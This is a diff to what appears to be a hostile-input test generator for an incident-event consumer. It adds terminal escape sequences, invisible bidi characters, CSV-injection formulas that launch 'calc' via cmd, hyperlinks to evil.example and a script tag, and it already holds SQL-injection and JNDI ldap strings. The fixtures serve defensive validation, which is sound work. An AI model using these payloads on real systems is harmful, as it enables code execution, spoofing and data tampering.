@@ -17,7 +17,10 @@ What the expected reasons assume (the consumer's contract, DESIGN §2):
   until every partition has been read to its end and they are older than the newest event
   time by the orphan time (default 7 days): their event times lie in the first half of the
   valid traffic's span, and no valid fact of their incident could cure them (none at their
-  instant or between the fact they contradict and them).
+  instant or between the fact they contradict and them);
+- an identifier (``source``, ``channel``, ``category``, ``assignee`` …, see ``IDENTIFIERS``)
+  holding a control or invisible character is a ``schema_violation``; free text (summary,
+  reasons but a pause's, comments) keeps such characters, and so does the store.
 """
 
 from __future__ import annotations
@@ -43,6 +46,38 @@ SQL_AND_HTML = (
     "Robert'); DELETE FROM dead_letters;--",
     "{{7*7}} ${jndi:ldap://x/a}",
 )
+# Terminal attacks (issue 13): refused in identifiers (schema_violation), kept in free text.
+TERMINAL_ESCAPES = (
+    "\x1b]0;PWNED\x07\x1b[2J\x1b[31m",  # OSC 0 window title (BEL-ended), clear screen, red
+    "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\",  # OSC 8 hyperlink
+    "\x9b2J\x9d0;PWNED\x9c",  # the same in C1 controls: CSI, OSC, ST
+    "refund\x08\x08\x08\x08\x08\x08denied\x07",  # backspaces over the text, then BEL
+    "exchange\rREFUSED",  # carriage return: the rest overwrites the line
+    "two\nlines", "tab\tbed", "del\x7f",
+)
+# Invisible or reordering characters: refused in identifiers, as they make one value look
+# like another (bidi overrides and isolates, zero-width, BOM, line separator, tags).
+INVISIBLE_CHARACTERS = (
+    "tech\u202etroppus", "\u2066refund\u2069", "\u202dphone", "sup\u200bplier",
+    "\ufeffemail", "\u200fchat", "chat\u2028phone", "store\U000e0041\U000e0042",
+)
+# Printable, so contract-valid, but live code if rendered as such: rich markup (styles,
+# hyperlinks), spreadsheet formulas (OWASP CSV injection), HTML.
+LIVE_CODE = (
+    "[bold red]ALERT[/bold red]", "[link=http://evil.example]click[/link]", ":warning: [blink]x",
+    '=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "<script>alert(1)</script>",
+)
+# Free text keeps all of these: they reach the store and must be shown safely.
+FREE_TEXT_ATTACKS = SQL_AND_HTML + TERMINAL_ESCAPES + LIVE_CODE
+# The identifier-like fields of each type (printable only), beside the source every type has.
+IDENTIFIERS = {
+    "incident.received": ("channel", "department", "category", "store"),
+    "incident.escalated": ("escalated_to",), "incident.resolved": ("resolution", "root_cause"),
+    "incident.thanked": ("channel", "department"), "incident.paused": ("reason",),
+    "incident.reassigned": ("department", "assignee"),
+    "incident.reclassified": ("category", "channel"),
+}  # fmt: skip
 _NOT_JSON_START = bytes(b for b in range(256) if b not in b'{["-0123456789tfnNI \t\r\n"')
 _BAD_UTF8 = (b"\xff", b"\x80", b"\xc3\x28", b"\xc0\xaf", b"\xe2\x82", b"\xed\xa0\x80")
 _ABSURD_TIMES = (
@@ -282,6 +317,21 @@ def _text_over_its_bound(w: World) -> Hostile:
     return _as_event(event, "schema_violation")
 
 
+def _control_in_identifier(w: World) -> Hostile:
+    return _in_identifier(w, TERMINAL_ESCAPES)
+
+
+def _invisible_in_identifier(w: World) -> Hostile:
+    return _in_identifier(w, INVISIBLE_CHARACTERS)
+
+
+def _in_identifier(w: World, values: Sequence[str]) -> Hostile:
+    event = w.any_event()
+    names = ("source", *(n for n in IDENTIFIERS.get(str(event["type"]), ()) if n in event))
+    event[w.rng.choice(names)] = w.rng.choice(values)
+    return _as_event(event, "schema_violation")
+
+
 def _reclassified_naming_nothing(w: World) -> Hostile:
     event = {k: v for k, v in w.any_event().items() if k in _COMMON}
     event["type"] = "incident.reclassified"
@@ -325,7 +375,7 @@ def _second_receipt(w: World) -> Hostile | None:
     first = _first(w, w.received)
     if first is None:
         return None
-    event = {**first, "event_id": w.new_id(), "summary": w.rng.choice(SQL_AND_HTML),
+    event = {**first, "event_id": w.new_id(), "summary": w.rng.choice(FREE_TEXT_ATTACKS),
              "occurred_at": _later(first["occurred_at"], minutes=5)}  # fmt: skip
     return _as_event(event, "already_received")
 
@@ -346,7 +396,7 @@ def _escalated_after_resolution(w: World) -> Hostile | None:
         return None
     event = _lifecycle(resolution, w.new_id(), "incident.escalated", minutes=1)
     event["escalated_to"] = "tech_support"
-    event["reason"] = w.rng.choice(SQL_AND_HTML)
+    event["reason"] = w.rng.choice(FREE_TEXT_ATTACKS)
     return _as_event(event, "escalated_after_resolution")
 
 
@@ -356,7 +406,7 @@ def _rated_before_resolution(w: World) -> Hostile | None:
         return None
     event = _lifecycle(first, w.new_id(), "incident.rated", minutes=30)
     event["rating"] = "bad"
-    event["comment"] = w.rng.choice(SQL_AND_HTML)
+    event["comment"] = w.rng.choice(FREE_TEXT_ATTACKS)
     return _as_event(event, "rated_before_resolution")
 
 
@@ -373,7 +423,7 @@ def _closed_while_open(w: World) -> Hostile | None:
     if first is None:
         return None
     event = _lifecycle(first, w.new_id(), "incident.closed", minutes=30)
-    event["reason"] = w.rng.choice(SQL_AND_HTML)
+    event["reason"] = w.rng.choice(FREE_TEXT_ATTACKS)
     return _as_event(event, "closed_while_open")
 
 
@@ -391,7 +441,7 @@ def _changed_after_closure(w: World) -> Hostile | None:
         return None
     if w.rng.random() < 0.5:
         event = _lifecycle(closure, w.new_id(), "incident.reassigned", minutes=1)
-        event["department"] = w.rng.choice(("tech_support", "customer_service", *SQL_AND_HTML))
+        event["department"] = w.rng.choice(("tech_support", "customer_service", *SQL_AND_HTML, *LIVE_CODE))
     else:
         event = _lifecycle(closure, w.new_id(), "incident.reclassified", minutes=1)
         name, value = w.rng.choice((("priority", "critical"), ("category", "delivery"),
@@ -435,6 +485,7 @@ CONTEXT_FREE: tuple[Callable[[World], Hostile], ...] = (
     _wrong_type, _missing_field, _missing_type, _unknown_type, _unsupported_version,
     _naive_time, _absurd_time, _sql_in_incident_id, _text_over_its_bound, _oversized,
     _just_under_the_limit, _key_mismatch, _orphan, _reclassified_naming_nothing, _bad_sequence,
+    _control_in_identifier, _invisible_in_identifier,
 )  # fmt: skip
 IN_CONTEXT: tuple[Callable[[World], Hostile | None], ...] = (
     _second_receipt, _resolved_twice, _escalated_after_resolution, _rated_before_resolution,
